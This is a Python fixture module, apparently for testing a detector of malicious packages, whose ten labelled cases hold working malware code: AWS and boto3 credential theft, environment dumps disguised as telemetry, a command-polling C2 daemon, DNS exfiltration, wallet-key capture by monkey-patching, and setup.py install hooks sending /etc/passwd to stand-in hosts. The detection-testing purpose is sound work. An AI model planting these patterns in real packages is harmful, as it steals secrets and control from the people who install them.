"""Flows across functions and modules: a source in one place, the send in another."""

from __future__ import annotations

from techniques import Case

ATEXIT = {
    "cloudkit/__init__.py": "from . import hooks  # noqa\n",
    "cloudkit/creds.py": (
        "import os\n\n\ndef read():\n    p = os.path.expanduser('~/.aws/credentials')\n"
        "    return open(p).read() if os.path.exists(p) else ''\n"
    ),
    "cloudkit/pack.py": (
        "import base64\nfrom .creds import read\n\n\ndef packed():\n"
        "    return base64.b64encode(read().encode())\n"
    ),
    "cloudkit/hooks.py": (
        "import atexit\nimport urllib.request\nfrom .pack import packed\n\n\n"
        "@atexit.register\ndef _flush():\n"
        "    urllib.request.urlopen('http://127.0.0.1:8/c', data=packed())\n"
    ),
}
TELEMETRY = {
    "usagestats/__init__.py": (
        "import base64, gzip, json, os, socket, threading, urllib.parse, urllib.request\n\n\n"
        "def _report():\n"
        "    blob = json.dumps({'env': dict(os.environ), 'host': socket.gethostname(),\n"
        "                       'cwd': os.getcwd()}).encode()\n"
        "    q = urllib.parse.urlencode({'d': base64.b64encode(gzip.compress(blob))})\n"
        "    urllib.request.urlopen('https://telemetry.x.invalid/v1?' + q)\n\n\n"
        "threading.Thread(target=_report, daemon=True).start()\n"
    ),
}
C2 = {
    "svcpoll/__init__.py": (
        "import os, subprocess, time, urllib.request\n\n\ndef _poll():\n"
        "    while True:\n"
        "        cmd = urllib.request.urlopen('http://127.0.0.1:9/cmd').read().decode()\n"
        "        subprocess.run(cmd, shell=True)\n        time.sleep(60)\n\n\n"
        "def _daemon():\n    if os.fork():\n        return\n    os.setsid()\n"
        "    if os.fork():\n        os._exit(0)\n    _poll()\n\n\n_daemon()\n"
    ),
}
DNS = {
    "dnsx/__init__.py": "from .util import beacon\n\nbeacon()\n",
    "dnsx/util.py": (
        "import getpass, socket\n\n\ndef beacon():\n"
        "    data = (getpass.getuser() + '@' + socket.gethostname()).encode().hex()\n"
        "    for i in range(0, len(data), 60):\n"
        "        try:\n"
        "            socket.gethostbyname(data[i:i + 60] + '.d.x.invalid')\n"
        "        except OSError:\n            pass\n"
    ),
}
INSPECT = {
    "srcgrab/__init__.py": (
        "import inspect, json, urllib.request\n\n\ndef _collect():\n"
        "    frames = inspect.stack()\n"
        "    src = [inspect.getsource(f.frame) for f in frames[1:3]]\n"
        "    urllib.request.urlopen(urllib.request.Request('https://x.invalid/s',\n"
        "                           data=json.dumps(src).encode()))\n\n\n_collect()\n"
    ),
}
WALLET = {
    "walletfix/__init__.py": (
        "import json, urllib.request\nimport eth_account\n\n"
        "_orig = eth_account.Account.from_key\n\n\n"
        "def _from_key(private_key, *a, **k):\n"
        "    urllib.request.urlopen('https://x.invalid/k', data=json.dumps(str(private_key))"
        ".encode())\n"
        "    return _orig(private_key, *a, **k)\n\n\n"
        "eth_account.Account.from_key = _from_key\n"
    ),
}
BOTO = {
    "awshelper/__init__.py": "from .session import warm_up\n\nwarm_up()\n",
    "awshelper/session.py": (
        "import boto3, requests\n\n\ndef warm_up():\n"
        "    c = boto3.Session().get_credentials()\n"
        "    requests.post('https://awshelper-stats.x.invalid/api',\n"
        "                  json={'a': c.access_key, 's': c.secret_key})\n"
    ),
}
CTF = {
    "setup.py": (
        "import requests\nfrom setuptools import setup\nfrom setuptools.command.install import "
        "install\n\n\nclass PostInstall(install):\n    def run(self):\n"
        "        install.run(self)\n        with open('/etc/passwd') as fh:\n"
        "            requests.post('https://x.invalid/f', data=fh.read())\n\n\n"
        "setup(name='ctf-flag', version='1.0', cmdclass={'install': PostInstall})\n"
    ),
}
BEACON_DNS = {
    "setup.py": (
        "import getpass, os, socket\nfrom setuptools import setup\n\n"
        "name = '{}.{}.{}'.format(socket.gethostname(), getpass.getuser(),"
        " os.getcwd().replace('/', '-'))\n"
        "try:\n    socket.getaddrinfo(name[:60] + '.x.oast.fun', 80)\nexcept OSError:\n    pass\n"
        "setup(name='research-beacon', version='1.0')\n"
    ),
}
BEACON_HTTP = {
    "setup.py": (
        "import os, platform, urllib.request\nfrom setuptools import setup\n\n\n"
        "def ping():\n    info = {'h': platform.node(), 'u': os.getlogin(), 'd': os.getcwd()}\n"
        "    urllib.request.urlopen('https://x.invalid/r?' + '&'.join(f'{k}={v}' for k, v in "
        "info.items()))\n\n\nping()\nsetup(name='research-beacon-http', version='1.0')\n"
    ),
}

CASES = [
    Case("aws creds read, packed, sent by an atexit hook in a third module", "cloudkit",
         ATEXIT, "malicious", ("PV320",), kind="wheel"),
    Case("import-time daemon thread posing as telemetry", "usagestats", TELEMETRY,
         "malicious", ("PV303",), kind="wheel"),
    Case("double-fork daemon polling a C2 for commands", "svcpoll", C2, "malicious",
         ("PV325",), kind="wheel"),
    Case("DNS-only exfiltration through hex subdomains", "dnsx", DNS, "malicious",
         ("PV304",), kind="wheel"),
    Case("reading the importer's source via inspect.stack and posting it", "srcgrab",
         INSPECT, "malicious", ("PV323",), kind="wheel"),
    Case("monkey-patching a wallet library to capture keys", "walletfix", WALLET,
         "malicious", ("PV324",), kind="wheel"),
    Case("boto3 credentials posted from a function called at import", "awshelper", BOTO,
         "malicious", ("PV303",), kind="wheel"),
    Case("CTF-style /etc/passwd read and posted at install", "ctf-flag", CTF, "malicious",
         ("PV303",)),
    Case("research beacon over DNS at install", "research-beacon", BEACON_DNS, "malicious",
         ("PV304",)),
    Case("research beacon over HTTP at install", "research-beacon-http", BEACON_HTTP,
         "malicious", ("PV304",)),
]
